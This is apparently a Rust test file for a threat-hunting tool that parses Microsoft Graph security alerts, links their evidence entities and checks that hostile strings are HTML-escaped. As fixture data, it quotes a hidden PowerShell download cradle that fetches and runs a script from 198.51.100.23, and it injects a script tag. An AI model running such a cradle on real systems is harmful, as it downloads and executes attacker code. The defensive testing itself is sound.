//! Microsoft Graph's alerts v2, read from a saved `GET /security/alerts_v2` page
//! (tests/data/graph-alerts-v2.json, in the documented shape): the OData page becomes its
//! records, each piece of evidence an entity of Sentinel's kinds with its links, the same
//! account in four alerts one key, and hostile text escaped everywhere it is shown.

use std::collections::BTreeMap;
use std::path::PathBuf;

use huntbook::alerts::{Alert, cards, entity_frame, key, read_alerts, related};
use serde_json::Value;

fn page() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data/graph-alerts-v2.json")
}

fn load(path: &std::path::Path) -> huntbook::frame::Warned<polars::prelude::DataFrame> {
    huntbook::formats::read_file(path, None).unwrap()
}

fn kinds(a: &Alert) -> BTreeMap<String, usize> {
    let mut out = BTreeMap::new();
    for e in &a.entities.entities {
        *out.entry(e.kind.clone()).or_insert(0) += 1;
    }
    out
}

fn counts(pairs: &[(&str, usize)]) -> BTreeMap<String, usize> {
    pairs.iter().map(|(k, n)| (k.to_string(), *n)).collect()
}

#[test]
fn a_graph_page_reads_as_alerts_with_linked_entities() {
    let df = load(&page());
    assert!(df.warnings.is_empty(), "{:?}", df.warnings);
    assert_eq!(
        df.value.height(),
        4,
        "the page's four records, not one row holding them"
    );
    let alerts = read_alerts(&df.value).unwrap();
    assert!(alerts.warnings.is_empty(), "{:?}", alerts.warnings);
    let a = &alerts.value;
    assert_eq!(a[0].name, "Suspicious PowerShell download cradle");
    assert_eq!(
        (a[0].severity.as_str(), a[0].tactics.as_slice()),
        ("high", &["Execution".to_string()][..])
    );
    assert_eq!(a[0].techniques, ["T1059.001", "T1105"]);
    assert_eq!(a[0].start, "2024-05-14T09:11:58.3000000Z");
    assert_eq!(a[0].end, "2024-05-14T09:12:05.9000000Z");
    assert_eq!(a[0].product, "microsoftDefenderForEndpoint");
    assert_eq!(a[0].compromised, "ws-fin-07.contoso.local");
    assert_eq!(a[2].compromised, "jdoe@contoso.com");
    assert_eq!(a[1].product, "microsoftDefenderForEndpoint · antivirus");
    assert!(a[0].remediation.starts_with("Isolate the device."));
    assert!(a[0].extended.contains(&("incidentId".to_string(), "4101".to_string())));
    // Alert 1: the process brings its image, its parent (with the parent's image) and
    // its account; alert 2 names powershell.exe's image as its parent's: one file each.
    assert_eq!(
        kinds(&a[0]),
        counts(&[
            ("account", 1),
            ("file", 2),
            ("host", 1),
            ("ip", 1),
            ("process", 2),
            ("url", 1)
        ])
    );
    assert_eq!(
        kinds(&a[1]),
        counts(&[
            ("account", 1),
            ("file", 3),
            ("host", 1),
            ("process", 2),
            ("registry-key", 1),
            ("registry-value", 1)
        ])
    );
    assert_eq!(
        kinds(&a[2]),
        counts(&[("account", 1), ("cloud-application", 1), ("ip", 1)])
    );
    assert_eq!(
        kinds(&a[3]),
        counts(&[
            ("account", 1),
            ("ip", 1),
            ("kubernetes-pod", 1),
            ("mail-message", 1),
            ("mailbox", 1),
            ("url", 1)
        ])
    );
    // The process's links: host, image, parent, account.
    let read = &a[0].entities;
    let process = read
        .entities
        .iter()
        .find(|e| e.kind == "process" && e.props.contains_key("CommandLine"))
        .unwrap();
    let link = |name: &str| {
        let (_, id) = process.links.iter().find(|(p, _)| p == name).unwrap();
        huntbook::alerts::main_value(read.by_id(id).unwrap(), read)
    };
    assert_eq!(link("Host"), "ws-fin-07.contoso.local");
    assert_eq!(
        link("ImageFile"),
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    );
    assert_eq!(link("Account"), "CONTOSO\\jdoe@contoso.com");
    assert_eq!(
        link("ParentProcess"),
        "C:\\Windows\\System32\\cmd.exe",
        "a parent without a command line shows its image"
    );
    assert_eq!(
        key(process, read),
        "process:ws-fin-07.contoso.local|7312|powershell.exe -nop -w hidden -c \"iex (new-object net.webclient).downloadstring('http://198.51.100.23/a.ps1')\""
    );

    // One row per entity, with the columns the enrichment magics take.
    let frame = entity_frame(a).unwrap();
    assert_eq!(frame.height(), 8 + 9 + 3 + 6);
    let col = |name: &str| -> Vec<Option<String>> {
        frame
            .column(name)
            .unwrap()
            .str()
            .unwrap()
            .iter()
            .map(|v| v.map(str::to_string))
            .collect()
    };
    let ips: Vec<String> = col("IpAddress").into_iter().flatten().collect();
    assert_eq!(ips, ["198.51.100.23", "203.0.113.77", "192.0.2.45"]);
    let hashes: Vec<String> = col("FileHash").into_iter().flatten().collect();
    assert!(
        hashes.contains(&"de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c".to_string()),
        "{hashes:?}"
    );
    let pids: Vec<String> = col("ProcessId").into_iter().flatten().collect();
    assert_eq!(
        pids,
        ["5480", "7312", "7312", "8120"],
        "parents and children, by host and id"
    );

    // The same account in all four alerts: the impossible-travel alert relates the rest.
    let account = "account:contoso\\jdoe@contoso.com";
    for x in a {
        assert!(
            x.entities.entities.iter().any(|e| key(e, &x.entities) == account),
            "{}",
            x.name
        );
    }
    let first: Vec<Alert> = read_alerts(&df.value)
        .unwrap()
        .value
        .into_iter()
        .skip(2)
        .take(1)
        .collect();
    let found = related(&first, read_alerts(&df.value).unwrap().value);
    let names: Vec<&str> = found.iter().map(|x| x.name.as_str()).collect();
    assert_eq!(names.len(), 3, "{names:?}");
    assert!(
        found.iter().all(|x| x.shares == [account]),
        "{:?}",
        found.iter().map(|x| &x.shares).collect::<Vec<_>>()
    );

    let (html, text) = cards::cards(a, 10);
    assert!(html.find("Suspicious PowerShell").unwrap() < html.find("Process memory dump").unwrap());
    assert!(html.contains("attack.mitre.org/techniques/T1003/001/"), "{html}");
    assert!(text.contains("kubernetes-pod: mail-filter-7d9c"), "{text}");
    let (svg, folded) = huntbook::alerts::graph::svg(a);
    assert!(folded.is_empty());
    assert!(huntbook::render::picture::picture(&svg).png.is_ok());
}

/// Every string of the page (a second time: `@odata.type` too) made hostile.
fn hostile(v: &mut Value, types_too: bool) {
    match v {
        Value::String(s) => *s = format!("<script>x()</script>\"'&{s}"),
        Value::Array(items) => items.iter_mut().for_each(|i| hostile(i, types_too)),
        Value::Object(map) => {
            for (k, v) in map.iter_mut() {
                if k.starts_with("@odata.") && !types_too {
                    continue;
                }
                hostile(v, types_too);
            }
        }
        _ => {}
    }
}

#[test]
fn hostile_text_in_graph_alerts_is_escaped_in_cards_graph_and_tooltips() {
    let dir = tempfile::tempdir().unwrap();
    for types_too in [false, true] {
        let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(page()).unwrap()).unwrap();
        hostile(&mut doc, types_too);
        let path = dir.path().join(format!("hostile-{types_too}.json"));
        std::fs::write(&path, doc.to_string()).unwrap();
        let df = load(&path).value;
        let alerts = read_alerts(&df).unwrap().value;
        assert_eq!(alerts.len(), 4);
        let (html, text) = cards::cards(&alerts, 10);
        assert!(
            !html.contains("<script>") && html.contains("&lt;script&gt;x()&lt;/script&gt;"),
            "{html}"
        );
        assert!(!html.contains("\"'&<"), "quotes and ampersands escaped");
        assert!(
            text.contains("<script>x()</script>"),
            "the text twin keeps values as they are"
        );
        let (svg, _) = huntbook::alerts::graph::svg(&alerts);
        assert!(!svg.contains("<script>") && svg.contains("&lt;script&gt;"), "{svg}");
        assert!(
            huntbook::render::picture::picture(&svg).png.is_ok(),
            "the SVG parses and draws"
        );
        let frame = entity_frame(&alerts).unwrap();
        assert!(frame.height() > 0);
        let frame = huntbook::Frame::new(frame, "entities");
        let table = huntbook::render::table::render_table(&frame, &Default::default());
        assert!(!table.html.contains("<script>"), "the entities table escapes too");
    }
}

#[test]
fn broken_evidence_is_a_warning_on_its_alert_and_the_page_is_said_to_continue() {
    let df = polars::prelude::df!(
        "title" => ["readable", "broken", "not a list"],
        "severity" => ["low", "high", "medium"],
        "evidence" => [
            r##"[{"@odata.type":"#microsoft.graph.security.ipEvidence","ipAddress":"192.0.2.1"}]"##,
            r##"[{"@odata.type": "#micro"##,
            r#"{"ipAddress": "192.0.2.2"}"#,
        ],
    )
    .unwrap();
    let alerts = read_alerts(&df).unwrap();
    assert_eq!(alerts.value.len(), 3);
    assert_eq!(alerts.value[0].entities.entities.len(), 1);
    let w = alerts.warnings.join("\n");
    assert!(w.contains("alert 2 (broken): evidence is not readable JSON"), "{w}");
    assert!(w.contains("alert 3 (not a list): evidence is not a list"), "{w}");

    let dir = tempfile::tempdir().unwrap();
    let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(page()).unwrap()).unwrap();
    doc["@odata.nextLink"] = Value::String("https://graph.microsoft.com/v1.0/security/alerts_v2?$skip=4".into());
    let more = dir.path().join("page1.json");
    std::fs::write(&more, doc.to_string()).unwrap();
    let read = load(&more);
    assert_eq!(read.value.height(), 4);
    assert_eq!(read.warnings.len(), 1);
    assert!(
        read.warnings[0].contains("one page of a longer OData answer (4 records read)"),
        "{:?}",
        read.warnings
    );
    let empty = dir.path().join("empty.json");
    std::fs::write(&empty, r#"{"@odata.context": "x", "value": []}"#).unwrap();
    let read = load(&empty);
    assert_eq!(read.value.height(), 0);
    assert!(read.warnings[0].contains("holds no records"), "{:?}", read.warnings);
}
